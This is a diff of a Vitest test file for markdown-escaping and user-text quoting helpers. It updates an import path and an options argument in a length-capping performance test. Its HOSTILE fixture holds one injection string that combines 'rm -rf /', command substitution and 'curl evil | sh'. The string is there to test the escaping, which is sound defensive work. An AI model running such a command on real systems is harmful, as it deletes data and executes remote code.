@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { ZWJ, escapeMarkdown, plainLine, quoteUserText } from "../../src/commands/index.js";
+import { ZWJ, escapeMarkdown, plainLine, quoteUserText } from "../../src/markdown/index.js";
 
 const HOSTILE = [
   "; rm -rf / $(x) `x` && curl evil | sh",
@@ -54,7 +54,7 @@ describe("escapeMarkdown", () => {
 
   it("caps the length of 1 MB of text and stays fast", () => {
     const started = performance.now();
-    const out = escapeMarkdown("@a ".repeat(350_000), 100);
+    const out = escapeMarkdown("@a ".repeat(350_000), { max: 100 });
     expect(performance.now() - started).toBeLessThan(500);
     expect(out.endsWith("…")).toBe(true);
     expect(out.length).toBeLessThan(200);
